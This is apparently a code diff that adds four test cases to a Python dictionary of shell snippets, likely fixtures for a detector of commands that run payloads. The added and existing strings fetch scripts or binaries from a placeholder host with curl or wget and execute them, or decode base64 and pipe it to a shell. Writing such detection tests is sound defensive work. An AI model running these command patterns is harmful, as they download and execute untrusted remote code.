@@ -50,6 +50,10 @@ RUNS_PAYLOAD = {
     "process-substitution-decoded": 'bash <(echo "$P" | base64 -d)\n',
     "source-variable": 'x=$(curl -s https://e.io)\nsource <(echo "$x")\n',
     "gunzip": 'echo "$Z" | base64 -d | gunzip | sh\n',
+    "downloaded-file-run": "curl -s https://e.io/i.sh -o /tmp/i.sh\nsh /tmp/i.sh\n",
+    "downloaded-binary-run": "wget -qO ./x https://e.io/x\nchmod +x ./x\n./x\n",
+    "redirected-then-sourced": "curl -s https://e.io/y > y.sh\n. ./y.sh\n",
+    "decoded-file-run": 'echo "$B" | base64 -d > /tmp/z\nbash /tmp/z\n',
 }
 
 
